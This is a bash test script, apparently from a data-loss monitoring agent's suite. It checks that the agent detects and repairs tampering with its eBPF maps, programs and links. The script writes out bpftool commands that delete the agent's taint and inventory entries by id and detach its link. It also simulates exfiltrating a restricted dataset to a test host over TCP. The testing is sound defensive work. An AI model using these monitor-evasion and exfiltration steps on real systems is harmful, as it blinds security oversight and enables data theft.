#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# test_tamper_bpf.sh - bpftool on the agent's maps, programs and links (by id, by pin, on a fd): agent_tamper, and taint put back.
set -u
. "$(dirname "$0")/../lib/lib.sh"
need_root tamper_bpf
mount_kernel_fs

EXT=dt-tb-$$
VX=dtb$$
T=$(mktemp -d /var/tmp/dt-tbpf.XXXXXX)
PIDS_TO_KILL=""
cleanup() {
	for p in $PIDS_TO_KILL; do kill "$p" 2>/dev/null; done
	[ -n "${AGENT_PID:-}" ] && kill -KILL "$AGENT_PID" 2>/dev/null
	teardown_host "$EXT" "$VX"
	lib_cleanup
	[ -n "${DT_KEEP:-}" ] && echo "kept $T" >&2 || rm -rf "$T"
}
trap cleanup EXIT

setup_host "$EXT" "$VX" 10.199.22.1 10.199.22.2 || exit 1

mkdir -p "$T/ds"
head -c 30000 /dev/urandom >"$T/ds/a.bin"
cat >"$T/inv.json" <<EOF
{"datasets": [{"id": "faces", "classification": "restricted", "paths": ["$T/ds"]}]}
EOF

FI=$T/findings.jsonl
tamper() { # pid field: of the agent_tamper findings of one process, the field's values
	$EVQ "$FI" values "$2" --where finding_info.types.0=agent_tamper --where evidences.0.process.pid="$1" |
		paste -sd, -
}
# The agent's own object ids of one kind (map, prog, link), from its fd table.
agent_ids() { # kind
	local f
	for f in /proc/"$AGENT_PID"/fdinfo/*; do
		case "$1" in
		map) grep -h '^map_id:' "$f" ;;
		link) grep -h '^link_id:' "$f" ;;
		prog) grep -q '^link_id:' "$f" || grep -h '^prog_id:' "$f" ;;
		esac
	done 2>/dev/null | awk '{print $2}' | sort -n
}

agent_start "$T" "$T/inv.json" --flush-ms 200 || exit 1

# The pinned taint map, opened by path: its id for what follows.
bpftool -j map show pinned "$(pin_dir)/taint" >"$T/pinned.json" &
PIN_PID=$!
wait $PIN_PID
bpftool -j map show pinned "$(pin_dir)/inodes" >"$T/inodes.json"
TAINT_ID=$($PY -c "import json; print(json.load(open('$T/pinned.json'))['id'])")
PROG_ID=$(agent_ids prog | head -n 1)
LINK_ID=$(agent_ids link | head -n 1)

# A process reads the dataset, then waits; meanwhile its taint entry is deleted by id.
listen "$EXT" tcp 10.199.22.2 9301 "$T/recv" || exit 1
$PY -c "
import os, socket, time
data = open('$T/ds/a.bin', 'rb').read()
open('$T/read.done', 'w').close()
for i in range(200):
    if os.path.exists('$T/go'):
        break
    time.sleep(0.05)
s = socket.create_connection(('10.199.22.2', 9301), timeout=10)
s.sendall(data)
s.close()
" &
SENDER_PID=$!
PIDS_TO_KILL="$PIDS_TO_KILL $SENDER_PID"
for i in $(seq 100); do [ -e "$T/read.done" ] && break; sleep 0.05; done
KEY=$($PY -c "import struct; print(' '.join(str(b) for b in struct.pack('<I', $SENDER_PID)))")
# shellcheck disable=SC2086
bpftool map delete id "$TAINT_ID" key $KEY &
DELETE_PID=$!
wait $DELETE_PID
DELETE_RC=$?
for i in $(seq 100); do grep -q "taint: restored" "$T/agent.err" && break; sleep 0.05; done
touch "$T/go"
wait $SENDER_PID

# The dataset file's inventory entry, deleted by id while a reader holds it open (a new open
# would classify it again, below its dataset directory): the agent writes it back.
$PY -c "
import os, time
f = open('$T/ds/a.bin', 'rb', buffering=0)
open('$T/opened', 'w').close()
for i in range(200):
    if os.path.exists('$T/go2'):
        break
    time.sleep(0.05)
assert len(f.read()) == 30000
" &
READER_PID=$!
PIDS_TO_KILL="$PIDS_TO_KILL $READER_PID"
for i in $(seq 100); do [ -e "$T/opened" ] && break; sleep 0.05; done
INODES_ID=$($PY -c "import json; print(json.load(open('$T/inodes.json'))['id'])")
IKEY=$($PY -c "
import os, struct
st = os.stat('$T/ds/a.bin')
k = struct.pack('<QII', st.st_ino, os.major(st.st_dev) << 20 | os.minor(st.st_dev), 0)
print(' '.join(str(b) for b in k))")
# shellcheck disable=SC2086
bpftool map delete id "$INODES_ID" key $IKEY &
IDEL_PID=$!
wait $IDEL_PID
IDEL_RC=$?
for i in $(seq 100); do grep -q "inodes: inventory entries written back" "$T/agent.err" && break; sleep 0.05; done
touch "$T/go2"
wait $READER_PID
READER_RC=$?

bpftool map dump id "$TAINT_ID" >/dev/null &
DUMP_PID=$!
wait $DUMP_PID
bpftool prog show id "$PROG_ID" >/dev/null &
PROG_PID=$!
wait $PROG_PID
bpftool link show id "$LINK_ID" >/dev/null &
LINKSHOW_PID=$!
wait $LINKSHOW_PID
# Last: it may really detach one of the agent's programs.
bpftool link detach id "$LINK_ID" >/dev/null 2>&1 &
DETACH_PID=$!
wait $DETACH_PID

sleep 0.5
agent_stop

test_agent_exits_cleanly() {
	ASSERT_EQ "$AGENT_RC" 0 "agent exit status"
	ASSERT_NEQ "$TAINT_ID" "" "taint map id"
	ASSERT_NEQ "$PROG_ID" "" "a program id"
	ASSERT_NEQ "$LINK_ID" "" "a link id"
}

test_pinned_map_open() {
	ASSERT_EQ "$(tamper $PIN_PID unmapped.operations)" open_pinned_map "operation"
	ASSERT_EQ "$(tamper $PIN_PID evidences.0.file.path)" "$(pin_dir)/taint" "pinned path"
	ASSERT_EQ "$(tamper $PIN_PID evidences.0.process.file.path)" /usr/sbin/bpftool "exe"
}

test_map_delete_by_id() {
	ASSERT_EQ "$DELETE_RC" 0 "bpftool deleted the entry"
	ASSERT_EQ "$(tamper $DELETE_PID unmapped.operations)" map_delete_elem,map_get_fd_by_id "operations"
	ASSERT_EQ "$(tamper $DELETE_PID unmapped.object)" "map 'taint' (id $TAINT_ID)" "object"
	ASSERT_EQ "$(tamper $DELETE_PID evidences.0.process.file.path)" /usr/sbin/bpftool "exe"
	ASSERT_EQ "$(tamper $DELETE_PID evidences.0.process.name)" bpftool "comm"
	ASSERT_EQ "$($EVQ "$FI" max severity_id --where finding_info.types.0=agent_tamper \
		--where evidences.0.process.pid=$DELETE_PID --where unmapped.operations=map_delete_elem)" 5 \
		"deleting is critical"
	ASSERT_HAS "$(tamper $DELETE_PID finding_info.title)" \
		"bpftool (uid 0) changed the datatrail agent's map 'taint' (id $TAINT_ID)" "title"
}

test_deleted_taint_is_restored() {
	ASSERT_HAS "$(cat "$T/agent.err")" "taint: restored 1 entries" "the agent put the entry back"
	ASSERT_EQ "$(stat -c %s "$T/recv")" 30000 "bytes received by the external host"
	ASSERT_EQ "$($EVQ "$FI" last unmapped.bytes --where finding_info.types.0=exfiltration \
		--where evidences.0.process.pid=$SENDER_PID)" 30000 "exfiltration still seen"
	ASSERT_EQ "$($EVQ "$FI" last resources.0.uid --where finding_info.types.0=exfiltration \
		--where evidences.0.process.pid=$SENDER_PID)" faces "dataset"
}

test_deleted_inode_is_restored() {
	ASSERT_EQ "$IDEL_RC" 0 "bpftool deleted the entry"
	ASSERT_EQ "$(tamper $IDEL_PID unmapped.object)" "map 'inodes' (id $INODES_ID)" "object"
	ASSERT_HAS "$(cat "$T/agent.err")" "inodes: inventory entries written back" "the agent said so"
	ASSERT_EQ "$READER_RC" 0 "the reader read the file"
	ASSERT_EQ "$($EVQ "$T/events.jsonl" sum unmapped.bytes --where actor.process.pid=$READER_PID)" 30000 \
		"the file's reads count again"
	ASSERT_EQ "$($EVQ "$T/events.jsonl" values unmapped.dataset --where actor.process.pid=$READER_PID)" \
		faces "as the dataset's"
}

test_map_dump_by_id() {
	ASSERT_EQ "$(tamper $DUMP_PID unmapped.operations)" map_get_fd_by_id "operation"
	ASSERT_EQ "$(tamper $DUMP_PID unmapped.object)" "map 'taint' (id $TAINT_ID)" "object"
	ASSERT_EQ "$(tamper $DUMP_PID severity_id)" 4 "severity"
}

test_prog_by_id() {
	# bpftool also opens the program's maps by id.
	ASSERT_HAS "$(tamper $PROG_PID unmapped.operations)" prog_get_fd_by_id "operation"
	ASSERT_HAS "$($EVQ "$FI" values unmapped.object --where finding_info.types.0=agent_tamper \
		--where evidences.0.process.pid=$PROG_PID --where unmapped.operations=prog_get_fd_by_id)" \
		"(id $PROG_ID)" "the program, by its id"
	ASSERT_HAS "$(tamper $PROG_PID unmapped.object)" "program 'dt_" "object"
	ASSERT_EQ "$(tamper $PROG_PID evidences.0.process.file.path)" /usr/sbin/bpftool "exe"
}

test_link_by_id_and_detach() {
	ASSERT_HAS "$(tamper $LINKSHOW_PID unmapped.operations)" link_get_fd_by_id "operation"
	ASSERT_HAS "$(tamper $LINKSHOW_PID unmapped.object)" "link 'dt_" "object"
	ASSERT_HAS "$(tamper $LINKSHOW_PID unmapped.object)" "(id $LINK_ID)" "object id"
	ASSERT_HAS "$(tamper $DETACH_PID unmapped.operations)" link_detach "detach"
	ASSERT_HAS "$($EVQ "$FI" values unmapped.object --where finding_info.types.0=agent_tamper \
		--where evidences.0.process.pid=$DETACH_PID --where unmapped.operations=link_detach)" \
		"(id $LINK_ID)" "the link detached, by its id"
	ASSERT_EQ "$($EVQ "$FI" max severity_id --where finding_info.types.0=agent_tamper \
		--where evidences.0.process.pid=$DETACH_PID)" 5 "detaching is critical"
}

test_agent_itself_is_exempt() {
	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$AGENT_PID)" 0 "no finding names the agent"
}


# Every line the agent wrote in this suite is valid OCSF 1.8.0.
test_ocsf_lines_valid() {
	ASSERT_OCSF_DIR "$T" "$T"
}

run_tests tamper_bpf
